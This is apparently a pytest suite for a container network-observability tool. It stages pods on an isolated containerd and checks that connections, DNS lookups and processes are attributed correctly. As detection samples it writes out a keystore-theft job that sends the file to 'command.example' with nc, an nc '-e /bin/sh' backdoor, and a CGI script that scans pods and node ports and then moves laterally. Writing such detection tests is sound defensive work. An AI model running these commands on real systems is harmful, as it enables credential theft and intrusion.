"""Pods that talk, over CRI, each in a network namespace of its own: who was at both ends, by which name, and what it came to.

Everything is played once, on one containerd, in a node's network of the test's own; the tests read the record.
"""

from __future__ import annotations

import subprocess
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import duckdb
import pytest

from firsthand.ask import show
from firsthand.ask.answer import iso
from tests import asking, require
from tests.cgroups import TestCgroup
from tests.kernel.observed import Observed
from tests.network import DnsServer
from tests.pods.containerd import OwnContainerd
from tests.pods.kubelet import Kubelet, KubeletPod, MadeContainer
from tests.pods.node_network import NODE, OUTSIDE, RESOLVERS, NodeNetwork

pytestmark = pytest.mark.xdist_group("runtimes")

WEB, DOOR, REPLY = 8080, 9999, 3_000
SERVICE = ("10.96.0.20", 80)
KUBELET, API = 10250, 6443
COMMAND = "command.example"
LOOT = b"keystore " * 1111
#: The address that one pod takes over from another, and the seconds within which it must have happened once.
TAKEN, WITHIN, ROUNDS = "10.213.77.60", 1.0, 8
_OF_TAKEN = f"""SELECT cookie, pod, peer_pod FROM {{}} WHERE event IN ('connect', 'accept') AND outcome = 'established'
    AND '{TAKEN}' IN (local_address, peer_address)"""
FILE = 70_000
PATIENCE = 60.0
_JOB = f"/bin/cat /job/identity.jks >/tmp/loot\n/bin/nc {COMMAND} 443 </tmp/loot >/dev/null\n"
_SHELL = """#!/bin/sh
echo "Content-Type: text/plain"; echo
for pod in {targets}; do for port in 22 {web}; do /bin/nc -w 2 $pod $port </dev/null; done; done
for port in {node_ports}; do /bin/nc -w 2 {node} $port </dev/null; done
echo "/bin/nc -w 2 {next} {web} </dev/null" | /bin/nc -w 2 {first} {door}
"""


class NetworkScene:
    """A cluster's node with its pods, what they do to each other, and the record of it."""

    def __init__(self, daemon: OwnContainerd, network: NodeNetwork, folder: Path) -> None:
        self.daemon, self.network, self.folder = daemon, network, folder
        self.site = folder / "site"
        (self.site / "cgi-bin").mkdir(parents=True)
        (self.site / "page").write_bytes(b"x" * FILE)
        with TestCgroup("unified") as self.servers, Kubelet(daemon) as self.kubelet:
            self._there_before()
            socket = f"containerd:{daemon.folder}/socket"
            self.observed = Observed(folder / "history", [daemon.cgroup.path], "--runtime", socket)
            self.observed.popen = network.popen
            with self.observed:
                self._usual()
                self.since = datetime.now(UTC)
                self._talk()
                self._names()
                self._theft()
                self._movement()
                self._take_over()

    def _pod(self, name: str, **more: Any) -> KubeletPod:
        return self.kubelet.pod(name, "shop", resolvers=more.pop("resolvers", RESOLVERS[:1]), **more)

    def _serves(self, pod: KubeletPod, *, before: str = "") -> MadeContainer:
        """A web server as the pod's only container; `before`: what its shell does first."""
        words = f"{before} exec /bin/httpd -f -p {WEB} -h /site"
        return pod.run("app", "/bin/sh", "-c", words, mounts=[(str(self.site), "/site", True)])

    def _idle(self, name: str, **more: Any) -> MadeContainer:
        return self._pod(name, **more).run("app", "/bin/sleep", "600")

    def _there_before(self) -> None:
        self.db, self.cache = self._pod("db"), self._pod("cache")
        self._serves(self.db, before=f"/bin/nc -ll -p {DOOR} -e /bin/sh &")
        self._serves(self.cache)
        self.address = {pod.name: pod.address for pod in (self.db, self.cache)}
        for resolver, name in zip(RESOLVERS, ("db", "cache"), strict=True):
            records = (f"--host-record=shop.example,{self.address[name]}", f"--host-record={COMMAND},{OUTSIDE}")
            DnsServer(self.servers, self.network.node, self.folder, *records, address=resolver)
        DnsServer(
            self.servers, self.network.outside, self.folder, f"--host-record={COMMAND},{OUTSIDE}", address=OUTSIDE
        )
        self.network.serve(self.servers, OUTSIDE, 443, answer=REPLY, namespace=self.network.outside)
        self.network.translate(*SERVICE, f"{self.address['cache']}:{WEB}")
        self.client = self._idle("client")

    def _usual(self) -> None:
        """What goes on each day: another pod of the same workload does it again later."""
        self.network.serve(self.daemon.cgroup, NODE, KUBELET, API)
        self._probe("prober-5d4c6b7f9-x2x4z")

    def _probe(self, name: str) -> None:
        prober = self._idle(name, labels={"pod-template-hash": "5d4c6b7f9"})
        self._get(prober, self.address["db"])
        self._told(f"SELECT 1 FROM connection WHERE event = 'connect' AND pod = '{name}' AND peer_pod = 'db'")

    def _told(self, query: str, number: int = 1) -> list[dict[str, Any]]:
        """The rows of a query, once there are so many."""
        return self.observed.wait(query, number)

    def _get(self, made: MadeContainer, host: str, port: int = WEB) -> None:
        """A page from there, as soon as somebody listens."""
        deadline = time.monotonic() + PATIENCE
        while (done := made.exec("/bin/wget", "-q", "-O", "/dev/null", f"http://{host}:{port}/page")).exit_code:
            assert b"refused" in done.stderr and time.monotonic() < deadline, done.stderr

    def _talk(self) -> None:
        self._get(self.client, self.address["db"])
        self._get(self.client, *SERVICE)

    def _names(self) -> None:
        self.blue, self.green = self._idle("blue"), self._idle("green", resolvers=RESOLVERS[1:])
        beside = self.blue.pod.run("beside", "/bin/sleep", "600")
        self._look_up(self.blue, "shop.example")
        self._get(beside, self.address["db"])
        self._get(self.green, "shop.example")
        self._get(self.blue, self.address["cache"])
        self._look_up(self.green, COMMAND, OUTSIDE)

    def _look_up(self, made: MadeContainer, *words: str) -> None:
        done = made.exec("/bin/nslookup", "-type=a", *words)
        assert done.exit_code == 0, done.stdout

    def _theft(self) -> None:
        folder = self.folder / "job"
        folder.mkdir()
        (folder / "job.sh").write_text(_JOB)
        (folder / "identity.jks").write_bytes(LOOT)
        self.job = self._pod("job").run("app", "/bin/sh", "/job/job.sh", mounts=[(str(folder), "/job", True)]).wait()

    def _movement(self) -> None:
        """Somebody outside calls a script on a web server, which looks around, and uses what it finds to go on from there."""
        script = _SHELL.format(
            targets=f"{self.address['db']} {self.address['cache']}", first=self.address["db"], next=self.address["cache"],
            web=WEB, door=DOOR, node=NODE, node_ports=f"{KUBELET} {API}",
        )  # fmt: skip
        (self.site / "cgi-bin/shell").write_text(script)
        (self.site / "cgi-bin/shell").chmod(0o755)
        web = self._pod("web")
        self._serves(web)
        url = f"http://{web.address}:{WEB}/cgi-bin/shell"
        words = ["curl", "-sS", "--fail", "--retry", "20", "--retry-connrefused", "--max-time", "30", url]
        child = self.servers.run(self.network.within(words, self.network.outside), stdout=subprocess.PIPE)
        assert child.wait() == 0
        self._probe("prober-5d4c6b7f9-k7l8m")

    def _take_over(self) -> None:
        """Pods that have one address, each made when the one before has stopped, until it once was quick enough."""
        self.pairs: list[tuple[str, list[tuple[str, str]]]] = []
        self.live: dict[int, tuple[str, str]] = {}
        takers: list[KubeletPod] = []
        while len(takers) < 2 or (self.gap() >= WITHIN and len(takers) < ROUNDS):
            self.daemon.next_address(TAKEN)
            for before in takers[-1:]:
                before.stop()
            takers.append(self._pod(f"taker-{len(takers)}"))
            assert takers[-1].address == TAKEN
            self._taken(takers[-1])

    def _taken(self, taker: KubeletPod) -> None:
        """It connects and is connected to; who the view says was at both ends, before anything is frozen."""
        self._get(self._serves(taker), self.address["db"])
        self._get(self.client, TAKEN)
        named = f"{_OF_TAKEN.format('connection')} AND pod IS NOT NULL AND peer_pod IS NOT NULL"
        rows = self._told(named, len(self.live) + 4)
        new = {row["cookie"]: (row["pod"], row["peer_pod"]) for row in rows if row["cookie"] not in self.live}
        assert len(new) == 4
        self.live |= new
        self.pairs.append((taker.name, sorted(new.values())))

    def gap(self) -> float:
        """The least seconds from the end of one holder of the address to the beginning of the next, as they are recorded."""
        query = f"""SELECT max(epoch(addresses_since)) AS since, min(epoch(until)) AS until FROM pod
            WHERE list_contains(addresses, '{TAKEN}') AND addresses_since IS NOT NULL GROUP BY pod_uid ORDER BY since"""
        return min((b["since"] - a["until"] for a, b in pairwise(self.rows(query)) if a["until"]), default=WITHIN)

    def rows(self, query: str) -> list[dict[str, Any]]:
        """Rows of the history's views."""
        return self.observed.rows(query)

    def ask(self, *words: str) -> dict[str, Any]:
        """A whole answer."""
        return asking.ask(self.observed.history, *words)


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NetworkScene]:
    """Played once."""
    require.pods()
    require.bpf()
    require.programs("dns", "dnsmasq", "curl", "ip", "iptables", "nsenter")
    folder = tmp_path_factory.mktemp("network")
    (folder / "config.toml").write_text(f"[network]\nresolvers = {list(RESOLVERS)}\n".replace("'", '"'))
    place = Path("/var/tmp") / f"firsthand-test-{uuid.uuid4().hex[:12]}"
    with pytest.MonkeyPatch.context() as patch, NodeNetwork() as network, TestCgroup() as cgroup:
        patch.setenv("FIRSTHAND_CONFIG", str(folder / "config.toml"))
        with OwnContainerd(cgroup, place, cri=True, network=network.node.name) as daemon:
            yield NetworkScene(daemon, network, folder)


def _mirrored(row: dict[str, Any], other: dict[str, Any]) -> bool:
    """Whether two rows are the ends of one connection: of the one who began it by the address after translation."""
    far = (row["nat_address"] or row["peer_address"], row["nat_port"] or row["peer_port"])
    near = (row["local_address"], row["local_port"])
    return (near, far) == ((other["peer_address"], other["peer_port"]), (other["local_address"], other["local_port"]))


def _both_ends(scene: NetworkScene, pod: str, condition: str) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """The rows of the connections that a pod began, and those of their other ends."""
    own = scene.rows(
        f"SELECT * FROM connection WHERE pod = '{pod}' AND transport = 'tcp' AND {condition} ORDER BY ktime"
    )
    all_others = scene.rows("SELECT * FROM connection WHERE contains(flag_names, 'INCOMING') ORDER BY ktime")
    return own, [other for other in all_others if any(_mirrored(row, other) for row in own)]


def test_both_ends_of_one_conversation(scene: NetworkScene) -> None:
    """Law: each end names the other's pod, the ends match, and what one sent the other received; it counts as one."""
    own, others = _both_ends(scene, "client", f"peer_address = '{scene.address['db']}'")
    assert [row["event"] for row in own] == ["connect", "close"] and [row["event"] for row in others] == [
        "accept",
        "close",
    ]
    assert {(row["peer_kind"], row["peer_namespace"], row["peer_pod"]) for row in own} == {("pod", "shop", "db")}
    assert {(row["peer_kind"], row["peer_namespace"], row["peer_pod"]) for row in others} == {("pod", "shop", "client")}
    assert {row["pod"] for row in others} == {"db"} and own[0]["ns_net"] != others[0]["ns_net"]
    sent, received = own[1]["bytes_sent"], own[1]["bytes_received"]
    assert sent > 0 and received > FILE and (others[1]["bytes_received"], others[1]["bytes_sent"]) == (sent, received)
    talkers = {(row["who"], row["peer"]): row for row in scene.ask("talkers", "pod")["rows"]}
    ways = [
        (talkers[pair]["out"], talkers[pair]["in"]) for pair in (("shop/client", "shop/db"), ("shop/db", "shop/client"))
    ]
    assert ways == [(1, 0), (0, 1)]
    (edge,) = [row for row in scene.ask("map", "pod")["rows"] if {row["from"], row["to"]} == {"shop/client", "shop/db"}]
    assert (edge["from"], edge["connections"], edge["bytes_sent"], edge["bytes_received"]) == (
        "shop/client",
        1,
        sent,
        received,
    )


def test_a_services_address(scene: NetworkScene) -> None:
    """Law: translated in the node's PREROUTING, out of the client's sight: both addresses, the pod that answered, and both ends."""
    own, others = _both_ends(scene, "client", f"peer_address = '{SERVICE[0]}'")
    assert [row["event"] for row in own] == ["connect", "close"] and [row["event"] for row in others] == [
        "accept",
        "close",
    ]
    for row in own:
        assert (row["peer_address"], row["peer_port"]) == SERVICE
        assert (row["nat_address"], row["nat_port"]) == (scene.address["cache"], WEB)
        assert (row["peer_kind"], row["peer_pod"]) == ("pod", "cache")
    assert {(row["pod"], row["peer_pod"], row["nat_address"]) for row in others} == {("cache", "client", None)}
    assert others[1]["bytes_sent"] == own[1]["bytes_received"] > FILE


def test_an_address_that_was_taken_over(scene: NetworkScene) -> None:
    """Law: within a second; each connection names the pod of its time at both ends: in the view, frozen, and in the view of that."""
    assert len(scene.pairs) > 1 and scene.gap() < WITHIN
    for name, pairs in scene.pairs:
        assert pairs == sorted([(name, "db"), ("db", name), ("client", name), (name, "client")])
    source = f"read_parquet('{scene.observed.history}/current/connection/**/*.parquet', union_by_name = true)"
    frozen = duckdb.sql(_OF_TAKEN.format(source)).fetchall()
    assert {cookie: (pod, peer) for cookie, pod, peer in frozen} == scene.live
    assert {
        row["cookie"]: (row["pod"], row["peer_pod"]) for row in scene.rows(_OF_TAKEN.format("connection"))
    } == scene.live


def _connects(scene: NetworkScene, pod: str) -> list[dict[str, Any]]:
    query = f"SELECT * FROM connection WHERE pod = '{pod}' AND event = 'connect' AND transport = 'tcp' ORDER BY ktime"
    return scene.rows(query)


def test_names_are_the_pods_own(scene: NetworkScene) -> None:
    """Law: one name, another address in each pod; resolved by one process and used by one of another container; none of the other's."""
    blue, green = _connects(scene, "blue"), _connects(scene, "green")
    assert [(row["peer_pod"], row["names"]) for row in blue] == [("db", ["shop.example"]), ("cache", None)]
    assert [(row["peer_pod"], row["names"]) for row in green] == [("cache", ["shop.example"])]
    (asked,) = scene.rows("SELECT * FROM name WHERE pod = 'blue' AND event = 'question'")
    assert (asked["container_name"], blue[0]["container_name"]) == ("app", "beside") and asked["pid"] != blue[0]["pid"]
    answered = scene.rows(
        "SELECT pod, addresses FROM name WHERE name = 'shop.example' AND event = 'answer' AND type = 'A'"
    )
    assert {row["pod"]: row["addresses"] for row in answered} == {
        "blue": [scene.address["db"]],
        "green": [scene.address["cache"]],
    }


def test_a_resolver_that_is_not_the_clusters(scene: NetworkScene) -> None:
    """Law: marked in question and answer, and no other is."""
    rows = scene.rows("SELECT DISTINCT peer_address, pod, event, marks FROM name ORDER BY ALL")
    assert {row["peer_address"] for row in rows} == {OUTSIDE, *RESOLVERS}
    marked = [(row["peer_address"], row["pod"], row["event"]) for row in rows if row["marks"] == "FOREIGN_RESOLVER"]
    assert marked == [(OUTSIDE, "green", "answer"), (OUTSIDE, "green", "question")]
    assert {row["marks"] for row in rows if row["peer_address"] != OUTSIDE} == {None}


def test_life_of_a_theft(scene: NetworkScene) -> None:
    """Law: the whole life in order, from the record alone; three processes, whose rows all carry the pod; both under the same shell."""
    set_up = scene.rows(
        "SELECT exec_id FROM process WHERE contains(coalesce(flag_names, ''), 'RUNTIME')"
    )  # may begin in the cgroup
    before = {row["exec_id"] for row in set_up}
    rows = [
        row
        for row in scene.ask("timeline", "--pod", "job")["rows"]
        if row["container"] == scene.job.id and row["exec_id"] and row["exec_id"] not in before
    ]
    images = {row["detail"]: row["exec_id"] for row in rows if row["event"] == "exec"}
    shell, cat, nc = "/bin/sh /job/job.sh", "/bin/cat /job/identity.jks", f"/bin/nc {COMMAND} 443"
    assert set(images) == {shell, cat, nc} and len(set(images.values())) == 3
    peer = f"→ {OUTSIDE}:443 ({COMMAND})"
    done = f"{peer} closed {show.size(len(LOOT))} out, {show.size(REPLY)} in"
    steps = [
        ("process", "exec", shell, shell), ("process", "exec", cat, cat), ("process", "exit", cat, "code 0"),
        ("process", "exec", nc, nc), ("name", "question", nc, f"? A {COMMAND} asked"),
        ("name", "answer", nc, f"? A {COMMAND} NOERROR {OUTSIDE}"), ("connection", "connect", nc, f"{peer} established"),
        ("connection", "close", nc, done), ("process", "exit", nc, "code 0"), ("process", "exit", shell, "code 0"),
    ]  # fmt: skip
    told = {(table, event, images[image], detail): place for place, (table, event, image, detail) in enumerate(steps)}
    found = [told.get((row["table"], row["event"], row["exec_id"], row["detail"])) for row in rows]
    assert [place for place in found if place is not None] == list(range(len(steps)))
    assert {(row["pod"], row["container_name"]) for row in rows} == {("job", "app")}
    parents = scene.rows("SELECT DISTINCT exec_id, parent_exec_id FROM process WHERE pod = 'job' AND event = 'exec'")
    assert {row["parent_exec_id"] for row in parents if row["exec_id"] in (images[cat], images[nc])} == {images[shell]}


def test_who_connected_to_the_thiefs_name(scene: NetworkScene) -> None:
    """Law: the question of the book: the lookups, and the one connection with its process, arguments, rights and exact bytes."""
    answer = scene.ask("connected", COMMAND)
    assert answer["answer"].startswith("Yes: 1 of ")
    (row,) = [row for row in answer["rows"] if row["what"] == "connected"]
    assert (row["pod"], row["args"], row["names"], row["peer"]) == (
        "job", ["/bin/nc", COMMAND, "443"], [COMMAND], f"{OUTSIDE}:443",
    )  # fmt: skip
    assert (row["bytes_sent"], row["bytes_received"], row["outcome"]) == (len(LOOT), REPLY, "established")
    assert (
        "net_raw" in row["capabilities"] and row["beyond"] == "none" and row["lineage"][0].startswith("/bin/busybox[")
    )
    assert [row["pod"] for row in answer["rows"] if row["what"] == "asked"] == ["green", "job"]


@pytest.fixture(scope="module")
def movement(scene: NetworkScene) -> list[dict[str, Any]]:
    """What `lateral` says of the time since the usual."""
    return list(scene.ask("lateral", "--since", iso(scene.since))["rows"])


def test_lateral_movement(scene: NetworkScene, movement: list[dict[str, Any]]) -> None:
    """Law: what the web server's shell tried, each as a new edge by the same shell; and what was done from the pod that it reached."""
    web = [row for row in movement if row["from"] == "shop/web"]
    assert [(row["to"], row["port"], row["outcome"]) for row in web] == [
        ("shop/db", "22/tcp", "refused"), ("shop/db", f"{WEB}/tcp", "established"),
        ("shop/cache", "22/tcp", "refused"), ("shop/cache", f"{WEB}/tcp", "established"),
        ("a node", f"{KUBELET}/tcp", "established"), ("a node", f"{API}/tcp", "established"),
        ("shop/db", f"{DOOR}/tcp", "established"),
    ]  # fmt: skip
    assert {row["args"][0] for row in web} == {"/bin/nc"} and len({tuple(row["lineage"]) for row in web}) == 1
    query = "SELECT exec_id, parent_exec_id, pid, args FROM process WHERE event = 'exec' AND pod IN ('web', 'db')"
    images = {row["exec_id"]: row for row in scene.rows(query)}
    (shell,) = {images[row["exec_id"]]["parent_exec_id"] for row in web}
    assert images[shell]["args"] == ["/bin/sh", "shell"]
    (httpd,) = {row["pid"] for row in images.values() if row["args"][0] == "/bin/httpd"}
    assert f"/bin/busybox[{httpd}]" in web[0]["lineage"]
    (onward,) = [(row["to"], row["port"], row["exec_id"]) for row in movement if row["from"] == "shop/db"]
    assert onward[:2] == ("shop/cache", f"{WEB}/tcp")
    (door,) = [row for row in _both_ends(scene, "web", f"peer_port = {DOOR}")[1] if row["event"] == "accept"]
    assert images[onward[2]]["parent_exec_id"] == door["exec_id"]  # what came in by that door went on


def test_lateral_movement_from_both_ends(scene: NetworkScene) -> None:
    """Law: those who were reached saw it as well, pods and the node; in the map it is one path, each edge once."""
    own, others = _both_ends(scene, "web", "event = 'connect' AND outcome = 'established'")
    accepted = [row for row in others if row["event"] == "accept"]
    assert len(own) == len(accepted) == 5 and {row["peer_pod"] for row in accepted} == {"web"}
    assert [(row["pod"], row["local_port"]) for row in accepted] == [
        ("db", WEB), ("cache", WEB), (None, KUBELET), (None, API), ("db", DOOR),
    ]  # fmt: skip
    edges = {(row["from"], row["to"]): (row["connections"], row["failed"]) for row in scene.ask("map", "pod")["rows"]}
    path = [("shop/web", "shop/db"), ("shop/web", "shop/cache"), ("shop/web", "host"), ("shop/db", "shop/cache")]
    assert [edges[edge] for edge in path] == [(3, 1), (2, 1), (2, 0), (1, 0)]
    assert not {(b, a) for a, b in path} & edges.keys()


def test_a_probe_is_no_movement(scene: NetworkScene, movement: list[dict[str, Any]]) -> None:
    """Law: the near miss stays quiet: another pod of a workload probes what was always probed."""
    (again,) = _connects(scene, "prober-5d4c6b7f9-k7l8m")
    assert again["peer_pod"] == "db" and again["time"] > scene.since.replace(tzinfo=None)
    assert movement and not [row for row in movement if "prober" in row["from"]]


@pytest.mark.counts_losses
def test_nothing_was_lost(scene: NetworkScene) -> None:
    """Law: all of it was recorded, and every container has its name."""
    assert scene.observed.lost() == 0 and scene.ask("unknown")["rows"] == []
